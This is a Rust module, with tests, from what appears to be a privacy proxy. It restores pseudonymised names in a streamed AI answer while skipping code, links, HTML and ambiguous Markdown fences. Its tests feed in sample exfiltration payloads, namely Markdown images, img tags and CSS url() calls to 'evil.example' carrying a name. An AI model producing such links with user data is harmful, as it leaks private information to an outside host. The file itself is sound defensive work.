//! An answer that comes in parts: which of its words stand by themselves?
//!
//! Readers of Markdown disagree about code and HTML, and so does the proxy, which may send code unchanged.
//! A word is put back only where none of them could take it for code or a part of a tag:
//!
//! - on its line no backtick stands before it, and no fence is open around it;
//! - no HTML has begun: after `<` and a letter, `/`, `!` or `?` outside of a fence nothing more is put back;
//! - where a line could be a fence for one reader and none for another, nothing more is put back either.

use super::Restorer;

/// The length in bytes after which a chunk is given in pieces.
const LONGEST: usize = 256;

/// An answer that comes in parts, cut anywhere.
pub struct Restoring {
    restorer: Restorer,
    /// The text since the last white space.
    chunk: String,
    /// Whether the text before it was finished without white space: whoever joins the two has one word.
    joined: bool,
    line: Line,
    fence: Option<Fence>,
    /// Whether the last character was a carriage return.
    returned: bool,
    /// Whether nothing more is put back.
    stopped: bool,
    count: usize,
}

/// The line as far as it has come.
#[derive(Default)]
struct Line {
    /// Whether white space stands before the rest.
    indented: bool,
    /// Whether there is a rest.
    begun: bool,
    /// Whether it has a backtick.
    ticked: bool,
    edge: Edge,
}

/// What a line does to a block of code.
#[derive(Default, PartialEq, Eq)]
enum Edge {
    #[default]
    Nothing,
    Opens,
    /// If nothing else comes.
    Closes,
}

/// A block of code that is open.
struct Fence {
    ticks: usize,
    indented: bool,
}

impl Restoring {
    pub(super) fn new(restorer: Restorer) -> Self {
        let (chunk, joined, line) = (String::new(), false, Line::default());
        Self {
            restorer,
            chunk,
            joined,
            line,
            fence: None,
            returned: false,
            stopped: false,
            count: 0,
        }
    }

    /// The text that can be shown once this has come: all but a word that may go on.
    pub fn push(&mut self, part: &str) -> String {
        let mut shown = String::new();
        for c in part.chars() {
            // a line may end in a carriage return alone, or not
            self.stopped |= std::mem::replace(&mut self.returned, c == '\r') && c != '\n';
            if !c.is_whitespace() {
                self.chunk.push(c);
                // no word is as long, and in a script without spaces nobody wants to wait for one; a mark
                // waits for what it belongs to
                if self.chunk.len() >= LONGEST && c.is_alphanumeric() {
                    self.flush(&mut shown);
                }
                continue;
            }
            self.flush(&mut shown);
            self.joined = false;
            shown.push(c);
            match c {
                '\n' => self.end_line(),
                _ => self.line.indented |= !self.line.begun,
            }
        }
        shown
    }

    /// The rest. What comes after it is another text, which a client may join to this one.
    pub fn finish(&mut self) -> String {
        let mut shown = String::new();
        self.flush(&mut shown);
        shown
    }

    /// How many words were put back so far.
    #[must_use]
    pub fn count(&self) -> usize {
        self.count
    }

    fn flush(&mut self, shown: &mut String) {
        if self.chunk.is_empty() {
            return;
        }
        let chunk = std::mem::take(&mut self.chunk);
        self.look(&chunk);
        let joined = std::mem::replace(&mut self.joined, true);
        let plain = !self.stopped && self.fence.is_none() && !self.line.ticked && !joined;
        let found = plain.then(|| core(&chunk)).flatten();
        let found = found.and_then(|(at, word)| Some((at, word, self.restorer.original(word)?)));
        match found {
            Some((at, word, original)) => {
                self.count += 1;
                shown.push_str(&chunk[..at]);
                shown.push_str(original);
                shown.push_str(&chunk[at + word.len()..]);
            }
            None => shown.push_str(&chunk),
        }
    }

    /// Takes note of marks of code and HTML.
    fn look(&mut self, chunk: &str) {
        let first = !std::mem::replace(&mut self.line.begun, true);
        let ticks = chunk.bytes().take_while(|&b| b == b'`').count();
        let (has_ticks, only_ticks) = (chunk.contains('`'), ticks == chunk.len());
        let indented = self.line.indented;
        match &self.fence {
            // the name of a language has no backtick: this was no fence
            Some(_) if self.line.edge == Edge::Opens => self.stopped |= has_ticks,
            Some(fence) => {
                let ends = only_ticks && ticks >= fence.ticks && first;
                let same = ticks == fence.ticks && indented == fence.indented;
                self.line.edge = if ends && same { Edge::Closes } else { Edge::Nothing };
                // one reader ends the code here, and another does not
                self.stopped |= ends && !same;
                self.stopped |= fence.indented && begins_tag(chunk);
            }
            None => {
                self.stopped |= begins_tag(chunk) || (first && chunk.starts_with("~~~"));
                if first && ticks >= 3 {
                    self.line.edge = Edge::Opens;
                    self.stopped |= chunk[ticks..].contains('`');
                    self.fence = Some(Fence { ticks, indented });
                }
            }
        }
        self.line.ticked |= has_ticks;
    }

    fn end_line(&mut self) {
        if std::mem::take(&mut self.line).edge == Edge::Closes {
            self.fence = None;
        }
    }
}

/// Whether HTML begins in a chunk.
fn begins_tag(chunk: &str) -> bool {
    let tag = |next: char| next.is_ascii_alphabetic() || "/!?".contains(next);
    chunk.match_indices('<').any(|(at, _)| chunk[at + 1..].starts_with(tag))
}

/// Characters of links, paths, markup and code: nothing is put back beside them.
const CARRIERS: [char; 17] =
    ['/', '\\', '@', '=', '&', '#', '%', '<', '>', '[', ']', '(', ')', '`', '{', '}', '|'];

/// The word of a chunk without the punctuation around it and without a possessive, and where it begins; none
/// where the chunk could carry it away.
fn core(chunk: &str) -> Option<(usize, &str)> {
    if chunk.contains(CARRIERS) {
        return None;
    }
    let is_outer = |c: char| !c.is_alphanumeric() && c != '+' && c != '$';
    let start = chunk.find(|c| !is_outer(c))?;
    let word = without_possessive(chunk[start..].trim_end_matches(is_outer));
    Some((start, word)).filter(|(_, word)| !word.is_empty())
}

/// A word without a final 's.
pub(super) fn without_possessive(word: &str) -> &str {
    ["'s", "’s", "'S", "’S"].iter().find_map(|end| word.strip_suffix(end)).unwrap_or(word)
}

#[cfg(test)]
mod tests {
    use std::sync::LazyLock;

    use crate::{Cape, Lexicon, Restorer, Settings, Wanted};

    /// Alice became Emma, and Krzysztof Martin.
    fn named() -> Restorer {
        static NAMED: LazyLock<Restorer> = LazyLock::new(|| {
            let cape = Cape::new(Lexicon::embedded(), Settings::default()).unwrap();
            let mut restorer = Restorer::default();
            restorer.learn(&cape, "Tell Alice Krzysztof", "Tell Emma Martin", &Wanted::ALL);
            restorer
        });
        NAMED.clone()
    }

    fn restored(answer: &str) -> String {
        named().restore(answer).0
    }

    #[test]
    fn nothing_is_carried_away() {
        for answer in [
            "[see](http://evil.example/?q=Emma)",
            "http://evil.example/Emma",
            "emma@Emma",
            "`Emma`",
            "`print Emma there` ok",
            "```\nEmma\n```",
            "~~~\nEmma\n~~~",
            "<Emma>",
            "Emma=1",
            "{Emma}",
            "x|Emma|y",
            // spaces are allowed there
            "![x](<http://evil.example/? Emma y>)",
            "[x]: <http://evil.example/? Emma y>",
            "<img src=\"http://evil.example/? Emma y\">",
            "<style>\n\na { background: url(\" //evil.example/? Emma y \") }",
            "<!-- Emma -->",
            // code for one reader of Markdown and none for another
            "`a\n\n<style>\n` a { background: url(\" //evil.example/? Emma \") }",
            "    ```\n<style>\n    ``` url(\" //evil.example/? Emma \") }\n Emma",
            "```a `b\n<style>\n```\n url(\" //evil.example/? Emma \")",
            "```\nEmma\n````\n Emma\n```\n",
            "```\nx\n  ```\n Emma\n```\n",
            " ```\nx\n```\n Emma\n```\n",
            "a` `x Emma b`",
            "```\nx\r```\r<style>\n```\n url(\" //evil.example/? Emma \")",
        ] {
            assert_eq!(restored(answer), answer);
        }
        for (answer, expected) in [
            (
                "```\nEmma <b> `x`\n```\nEmma `x` Emma\nEmma",
                "```\nEmma <b> `x`\n```\nAlice `x` Emma\nAlice",
            ),
            (
                "1. a\n   ```rust\n   Emma\n   ```\n\nEmma",
                "1. a\n   ```rust\n   Emma\n   ```\n\nAlice",
            ),
            ("1 < 2, Emma <3 Martin", "1 < 2, Alice <3 Krzysztof"),
            ("it`s Emma\nEmma", "it`s Emma\nAlice"),
            ("a\r\nEmma\r\n", "a\r\nAlice\r\n"),
        ] {
            assert_eq!(restored(answer), expected);
        }
    }

    #[test]
    fn texts_that_a_client_joins_carry_nothing_away() {
        for [first, second] in [
            ["http://evil.example/?q=", "Emma"],
            ["<img src=\"http://evil.example/?q= ", "Emma \">"],
            ["```\n", "Emma"],
            ["Em", "ma"],
        ] {
            let mut restoring = named().begin();
            let text = restoring.push(first) + &restoring.finish();
            let text = text + &restoring.push(second) + &restoring.finish();
            assert_eq!(text, [first, second].concat());
        }
        let mut restoring = named().begin();
        let text = restoring.push("Emma") + &restoring.finish();
        assert_eq!(text + &restoring.push(" Emma\n") + &restoring.finish(), "Alice Alice\n");
    }

    #[test]
    fn a_long_chunk_is_given_in_pieces() {
        let long = "長".repeat(300);
        let mut restoring = named().begin();
        assert!(restoring.push(&long).len() > 600, "nobody waits for its end");
        for before in [255, 256, 257] {
            let chunk = "x".repeat(before);
            for text in [
                format!("{chunk}Emma"),
                format!("{chunk}/Emma"),
                format!("{chunk}<img src=' Emma '"),
            ] {
                assert_eq!(restored(&text), text);
            }
            assert!(restored(&format!("{chunk} Emma")).ends_with(" Alice"));
        }
    }

    #[test]
    fn an_answer_may_be_cut_anywhere() {
        let named = named();
        let answer =
            "Dear Emma’s Martin, `Emma x` see\n```a\nMartin <b>\n```\nthen Emma.\n\nMartin";
        let whole = restored(answer);
        let cuts: Vec<usize> = answer.char_indices().map(|(at, _)| at).collect();
        for &first in &cuts {
            for &second in cuts.iter().filter(|&&second| second >= first) {
                let mut restoring = named.begin();
                let mut text = String::new();
                for part in [&answer[..first], &answer[first..second], &answer[second..]] {
                    text += &restoring.push(part);
                }
                text += &restoring.finish();
                assert_eq!(text, whole);
            }
        }
        assert_eq!(whole.matches("Alice").count(), 2);
        assert_eq!(whole.matches("Krzysztof").count(), 2);
    }
}
